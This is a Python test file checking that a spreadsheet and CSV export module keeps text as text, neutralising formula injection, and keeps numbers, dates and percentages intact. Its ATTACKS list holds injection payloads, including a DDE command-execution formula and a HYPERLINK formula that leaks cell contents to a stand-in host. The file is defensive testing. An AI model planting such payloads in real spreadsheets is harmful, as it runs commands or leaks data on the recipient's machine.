"""Text stays text and a number a number (promise 12), in what a program reads back."""

import csv
from datetime import UTC, date, datetime
from fractions import Fraction
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell as ExcelCell

from reporting.spreadsheets import Choices, Share, Sheet, csv_text, plain, workbook

AT = datetime(2025, 4, 1, 15, 0, tzinfo=UTC)

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://kwaad.example?"&A1;"Klik")',
    "+1+1",
    "-1+1",
    "-5",
    "@SUM(1+1)",
    "\t=1+1",
    "\tgewoon",
    "\r=1+1",
    "\rgewoon",
    "\n=1+1",
    "   =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b\x1f-1+1",
    "＝1+1",
    "＠SUM(1+1)",
    "=",
]
# What a workbook would take for something else than text, and no program reads as a formula.
HARMLESS = ["#N/A", "#REF!", "007", "1e5", "TRUE", "a=1+1", "'=1+1", '"', "a;b\n=c", " ", "12 %"]


def book_of(*rows, **options):
    sheet = Sheet("Blad", tuple(f"kolom {place}" for place in range(len(rows[0]))), rows)
    made = workbook([sheet], **{"title": "Proef", "language": "nl", "at": AT, **options})
    return load_workbook(BytesIO(made))


def cell_of(value) -> ExcelCell:
    return book_of((value,)).active["A2"]


def fields_of(*rows) -> list[list[str]]:
    text = csv_text(rows)
    assert text.startswith("\ufeff")
    return list(csv.reader(StringIO(text[1:], newline=""), delimiter=";"))


@pytest.mark.parametrize("text", [*ATTACKS, *HARMLESS])
def test_text_stays_text_in_a_workbook(text):
    cell = cell_of(text)

    assert (cell.data_type, cell.value) == ("s", plain(text))


@pytest.mark.parametrize("text", ATTACKS)
def test_attack_stays_text_when_its_cell_is_edited(text):
    assert cell_of(text).quotePrefix is True


@pytest.mark.parametrize(("text", "kind"), [("=1+1", "f"), ("#N/A", "e")])
def test_openpyxl_without_care_makes_it_run(text, kind):
    page = Workbook().active

    page["A1"] = text

    assert page["A1"].data_type == kind


@pytest.mark.parametrize("text", ATTACKS)
def test_attack_is_neutralised_in_csv(text):
    assert fields_of((text, "volgende")) == [[f"'{plain(text)}", "volgende"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_the_same_in_csv(text):
    assert fields_of((text, "volgende")) == [[text, "volgende"]]


def test_heading_title_and_name_of_a_sheet_are_text_too():
    sheet = Sheet("=1+1", ("=1+1",), [])

    book = load_workbook(BytesIO(workbook([sheet], title="=1+1\x00", language="nl", at=AT)))

    assert (book.active["A1"].value, book.active["A1"].data_type) == ("=1+1", "s")
    assert (book.properties.title, book.sheetnames) == ("=1+1", ["=1+1"])


@pytest.mark.parametrize(
    ("value", "stored", "kind", "number_format", "field"),
    [
        (-5, -5, "n", "General", "-5"),
        (0, 0, "n", "General", "0"),
        (Share(Fraction(5, 11)), 0.45, "n", "0\\ %", "0,45"),
        (Share(Fraction(1, 8)), 0.13, "n", "0\\ %", "0,13"),
        (Share(Fraction(1)), 1, "n", "0\\ %", "1,00"),
        (Share(Fraction(-1, 4)), -0.25, "n", "0\\ %", "-0,25"),
        (date(2025, 4, 1), datetime(2025, 4, 1), "d", "d/mm/yyyy", "2025-04-01"),  # noqa: DTZ001
        (None, None, "n", "General", ""),
        ("", None, "n", "General", ""),
    ],
)
def test_number_stays_a_number(value, stored, kind, number_format, field):
    cell = cell_of(value)

    assert (cell.value, cell.data_type, cell.number_format) == (stored, kind, number_format)
    assert fields_of((value, 1)) == [[field, "1"]]


TEXTS = st.text(max_size=40)
CELLS = st.one_of(TEXTS, st.integers(-(10**9), 10**9), st.none())


@given(st.lists(st.tuples(CELLS, CELLS), max_size=5))
def test_rows_come_back_from_a_workbook(rows):
    read = list(book_of(("", ""), *rows).active.iter_rows(min_row=3, values_only=True))

    expected = [tuple(comes_back(cell) for cell in row) for row in rows]
    # A program does not see empty rows at the end.
    assert [row for row in read if any(row)] == [row for row in expected if any(row)]


def comes_back(cell):
    return (plain(cell) or None) if isinstance(cell, str) else cell


@given(st.lists(st.tuples(CELLS, CELLS), max_size=5))
def test_rows_come_back_from_csv(rows):
    read = fields_of(*rows)

    assert [[unquoted(field) for field in row] for row in read] == [
        [unquoted(plain(str("" if cell is None else cell))) for cell in row] for row in rows
    ]


def unquoted(field: str) -> str:
    return field.removeprefix("'")


@given(TEXTS)
def test_no_text_starts_a_formula_in_csv(text):
    [[field]] = fields_of((f"{text}x",))

    seen = field.lstrip()
    assert seen[:1] not in set("=+-@")
    assert field[:1] not in {"\t", "\r"}


@given(st.fractions(0, 1, max_denominator=300))
def test_share_is_stored_as_it_is_shown(share):
    shown = cell_of(Share(share)).value

    assert abs(shown * 100 - round(shown * 100)) < 1e-9
    assert fields_of((Share(share),)) == [[f"{shown:.2f}".replace(".", ",")]]


def test_workbook_is_easy_to_read():
    page = book_of(("kort", "een zin " * 30), ("x", "regel\nregel")).active

    assert [cell.font.bold for row in page for cell in row] == [True] * 2 + [False] * 4
    assert (page.freeze_panes, page.auto_filter.ref) == ("A2", "A1:B3")
    assert [page.column_dimensions[letter].width for letter in "AB"] == [11, 60]
    assert page["B2"].alignment.wrap_text is True


def test_workbook_says_title_language_and_moment():
    properties = book_of(("x",)).properties

    assert (properties.title, properties.language) == ("Proef", "nl")
    moment = AT.replace(tzinfo=None)
    assert (properties.created, properties.modified) == (moment, moment)


def test_same_input_gives_the_same_bytes(time_machine):
    made = []
    for day in (1, 2):
        time_machine.move_to(datetime(2026, 5, day, 9, 30, tzinfo=UTC), tick=False)
        sheet = Sheet("Blad", ("a", "b"), [("x", Share(Fraction(1, 3)))])
        made.append(workbook([sheet], title="Proef", language="nl", at=AT))

    assert made[0] == made[1]
    with ZipFile(BytesIO(made[0])) as packed:
        assert {part.date_time for part in packed.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_moment_without_time_zone_is_refused():
    with pytest.raises(ValueError, match="time zone"):
        book_of(("x",), at=datetime(2025, 4, 1))  # noqa: DTZ001


def test_a_column_offers_the_list_of_another_sheet():
    list_of = Sheet("Lijst's", ("Status", "Thema"), [("loopt", "Energie"), ("gepland", "Water")])
    sheet = Sheet("Blad", ("Naam", "Thema"), [("x", "Water")], {1: Choices("Lijst's", 1, 2)})
    made = workbook([sheet, list_of], title="Proef", language="nl", at=AT)
    book = load_workbook(BytesIO(made))

    offered = book["Blad"].data_validations.dataValidation
    assert [(one.type, str(one.sqref), one.formula1) for one in offered] == [
        ("list", "B2:B1000", "'Lijst''s'!$B$2:$B$3")
    ]
    assert (offered[0].allow_blank, offered[0].showErrorMessage) == (True, True)
    assert book["Lijst's"].data_validations.dataValidation == []
